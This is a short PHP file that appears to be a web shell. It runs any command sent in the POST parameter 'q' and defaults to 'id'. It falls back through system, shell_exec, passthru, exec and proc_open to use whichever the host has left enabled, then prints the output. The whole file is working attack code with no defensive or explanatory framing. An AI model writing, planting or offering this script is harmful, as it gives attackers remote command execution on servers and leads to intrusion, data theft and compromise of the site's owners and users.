<?php
// Runs a command with whichever function the host left enabled.
function run($c) {
    $out = '';
    if (function_exists('system')) { ob_start(); system($c); $out = ob_get_clean(); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($c); }
    elseif (function_exists('passthru')) { ob_start(); passthru($c); $out = ob_get_clean(); }
    elseif (function_exists('exec')) { exec($c, $lines); $out = implode("\n", $lines); }
    elseif (function_exists('proc_open')) { $p = proc_open($c, array(1 => array('pipe', 'w')), $io); $out = stream_get_contents($io[1]); }
    return $out;
}
echo run(isset($_POST['q']) ? $_POST['q'] : 'id');
